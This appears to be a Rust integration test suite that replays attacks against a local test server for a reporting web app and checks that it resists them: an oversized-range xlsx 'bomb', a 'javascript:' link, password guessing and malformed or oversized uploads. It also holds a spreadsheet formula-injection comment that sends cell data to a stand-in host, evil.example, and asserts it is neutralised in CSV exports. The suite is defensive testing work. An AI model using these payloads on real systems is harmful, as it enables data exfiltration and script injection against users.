//! The attacks the hardening work answered, replayed end to end against a server listening on
//! TCP — on SQLite, and on PostgreSQL when `TIENDO_TEST_POSTGRES_URL` names one (otherwise that
//! half is reported as ignored, never as passed). Each step is what an attacker (or a careless
//! file) sent, and what the server must answer.

mod support;

use std::net::IpAddr;

use axum::http::StatusCode;
use support::{listen, App, Client};

fn from(ip: &str) -> IpAddr {
    ip.parse().unwrap()
}

async fn replay(app: App) {
    let base = format!("http://{}", listen(&app).await);
    let home: IpAddr = from("127.0.0.1");
    let mut reporter = Client::remote(&app, &base, home);
    reporter.login_demo("ha-tinh").await;
    let mut office = Client::remote(&app, &base, home);
    office.login_demo("van-phong").await;
    let mut public = Client::remote(&app, &base, home);

    // 1. A 7 KB workbook whose one cell sits at Excel's last row and column.
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet()
        .write_number(1_048_575, 16_383, 1.0)
        .unwrap();
    let bomb = book.save_to_buffer().unwrap();
    reporter.get("/units/HA-TINH/entry?period=2025").await;
    let res = reporter
        .post_multipart(
            "/units/HA-TINH/upload",
            &[("csrf", &reporter.csrf.clone())],
            &[("file", "bomb.xlsx", &bomb)],
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.body.contains("XFD") && res.body.contains("dòng 20000"));
    assert_eq!(
        public.get("/").await.status,
        StatusCode::OK,
        "the server answers on"
    );

    // 2. A document whose source is a script: never a link, and no page runs inline script.
    let res = office
        .post_json(
            "/api/v1/documents",
            serde_json::json!({"code": "ATTACK-DOC", "kind": "plan",
                "title_vi": "Kế hoạch thử nghiệm", "source": "javascript:alert(1)"}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.body);
    let page = public.get("/documents/ATTACK-DOC").await;
    assert!(!page.body.contains("href=\"javascript:"));
    assert!(page.csp.contains("default-src 'self'") && !page.csp.contains("unsafe-inline"));
    assert!(page.csp.contains("frame-ancestors 'none'"));

    // 3. A comment that is a spreadsheet formula, approved and published.
    let res = reporter
        .post_json(
            "/api/v1/values",
            serde_json::json!({"values": [{"target": "HT-T1", "org": "HA-TINH", "period": "2025",
                "value": 41.5, "comment": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"}],
                "submit": true}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.body);
    let queue = office.get("/api/v1/approvals").await.json();
    let item = queue["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["target"] == "HT-T1" && v["period"] == "2025")
        .unwrap()
        .clone();
    let res = office
        .post_json(
            "/api/v1/approvals",
            serde_json::json!({"target": "HT-T1", "org": "HA-TINH", "period": "2025",
                "version": item["version"], "decision": "approve"}),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    let csv = public.get("/open-data/values.csv").await.body;
    assert!(csv.contains("'=HYPERLINK"), "neutralised");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"));

    // 4. An internal task: in the officials' figures, not in the public's.
    let tasks = |o: &serde_json::Value| -> u64 {
        o["tasks_by_status"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["count"].as_u64().unwrap())
            .sum()
    };
    let (public_before, official_before) = (
        tasks(&public.get("/api/v1/overview").await.json()),
        tasks(&office.get("/api/v1/overview").await.json()),
    );
    let res = office
        .post_json(
            "/api/v1/tasks",
            serde_json::json!({"code": "ATTACK-INTERNAL", "document": "ATTACK-DOC",
                "title_vi": "Ghi chú điều phối nội bộ", "lead": "HA-TINH",
                "confidentiality": "internal"}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{}", res.body);
    // The task board shows it to officials at once, to the public never.
    assert!(office
        .get("/api/v1/tasks?per_page=500")
        .await
        .body
        .contains("ATTACK-INTERNAL"));
    assert!(!public.get("/tasks").await.body.contains("ATTACK-INTERNAL"));
    // Definitions reach the overview with its next computation, in the background.
    let started = std::time::Instant::now();
    while tasks(&office.get("/api/v1/overview").await.json()) != official_before + 1 {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "never counted"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(
        tasks(&public.get("/api/v1/overview").await.json()),
        public_before
    );
    assert!(!public.get("/tasks").await.body.contains("ATTACK-INTERNAL"));

    // 5. Everything above left a whole audit chain behind.
    let mut inspector = Client::remote(&app, &base, home);
    inspector.login_demo("thanh-tra").await;
    let audit = inspector.get("/admin/audit?verify=true&lang=vi").await.body;
    assert!(audit.contains("Chuỗi nhật ký nguyên vẹn"), "{audit}");

    // 6. Someone at another address guesses the reporter's password: they wait, the
    //    reporter does not.
    let mut guesser = Client::remote(&app, &base, from("127.0.0.66"));
    let mut held = 0;
    for _ in 0..8 {
        if guesser.login("ha-tinh", "đoán mò mật khẩu").await.status
            == StatusCode::TOO_MANY_REQUESTS
        {
            held += 1;
        }
    }
    assert!(held >= 2, "{held}");
    let mut owner = Client::remote(&app, &base, home);
    owner.login_demo("ha-tinh").await;

    // 7. Files that are not what they claim: an empty DHIS2 set behind a byte-order mark,
    //    and a comment of 1.5 MB.
    let res = reporter
        .send(
            axum::http::Method::POST,
            "/api/v1/dataValueSets",
            "application/json",
            "\u{feff}{\"dataValues\": []}",
        )
        .await;
    assert_eq!(res.status, StatusCode::CONFLICT, "{}", res.body);
    assert!(res.body.contains("no rows"), "{}", res.body);
    let res = reporter
        .post_json(
            "/api/v1/values",
            serde_json::json!({"values": [{"target": "HT-T1", "org": "HA-TINH", "period": "2024",
                "value": 36, "comment": "x".repeat(1_500_000)}]}),
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(res.json()["error"]["code"], "too_long");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_answered_on_sqlite() {
    replay(support::demo("2026-03-02").await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(tiendo_pg),
    ignore = "skipped: TIENDO_TEST_POSTGRES_URL is not set"
)]
async fn attacks_are_answered_on_postgresql() {
    let schema = format!("tiendo_attacks_{}", std::process::id());
    let url = std::env::var("TIENDO_TEST_POSTGRES_URL").unwrap();
    replay(support::demo_on_postgres("2026-03-02", &schema).await).await;
    tiendo_storage::Store::drop_schema(&url, &schema)
        .await
        .unwrap();
}
